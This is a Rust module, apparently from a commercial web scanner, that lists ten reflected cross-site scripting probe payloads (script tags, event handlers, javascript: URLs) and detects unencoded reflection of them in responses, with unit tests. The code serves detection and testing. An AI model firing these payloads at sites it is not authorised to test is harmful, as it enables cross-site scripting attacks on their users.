// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - XSS Attack Class
 * Multi-context reflection payloads and exploitability checks
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use super::Detection;

/// Multi-context payloads: HTML body, tag attribute and script context
pub const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    "<body onload=alert(1)>",
    "'><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
];

/// Reflected XSS: the payload (or its URL-encoded form) appears in the
/// body and is not HTML-entity-encoded there.
pub fn detect(body: &str, payload: &str) -> Option<Detection> {
    let reflected_raw = body.contains(payload);
    let reflected_encoded = body.contains(urlencoding::encode(payload).as_ref());

    if !reflected_raw && !reflected_encoded {
        return None;
    }

    if !is_exploitable(body, payload, reflected_raw) {
        return None;
    }

    Some(Detection {
        technique: "Reflected",
        evidence: "Payload reflected in response without encoding".to_string(),
        confidence: 95,
        literal: true,
    })
}

/// Entity-encoded reflections are output-encoded by the application and
/// not exploitable.
fn is_exploitable(body: &str, payload: &str, reflected_raw: bool) -> bool {
    if !payload.contains('<') && !payload.contains('>') {
        return true;
    }

    let entity_encoded = payload.replace('<', "&lt;").replace('>', "&gt;");
    if body.contains(&entity_encoded) && !reflected_raw {
        return false;
    }

    true
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_detects_raw_reflection() {
        let body = "<html>You searched for <script>alert(1)</script></html>";
        let detection = detect(body, "<script>alert(1)</script>").unwrap();
        assert_eq!(detection.confidence, 95);
        assert!(detection.literal);
    }

    #[test]
    fn test_entity_encoded_reflection_is_benign() {
        let body = "<html>You searched for &lt;script&gt;alert(1)&lt;/script&gt;</html>";
        assert!(detect(body, "<script>alert(1)</script>").is_none());
    }

    #[test]
    fn test_no_reflection_yields_none() {
        assert!(detect("<html>nothing here</html>", "<svg onload=alert(1)>").is_none());
    }

    #[test]
    fn test_raw_reflection_wins_over_encoded_copy() {
        // Both raw and entity-encoded copies present: still exploitable
        let body = "raw <svg onload=alert(1)> and encoded &lt;svg onload=alert(1)&gt;";
        assert!(detect(body, "<svg onload=alert(1)>").is_some());
    }

    #[test]
    fn test_attribute_payload_without_angle_brackets() {
        let body = "<div title='' onfocus='alert(1)'>x</div>";
        let payload = "' onfocus='alert(1)";
        assert!(detect(body, payload).is_some());
    }
}
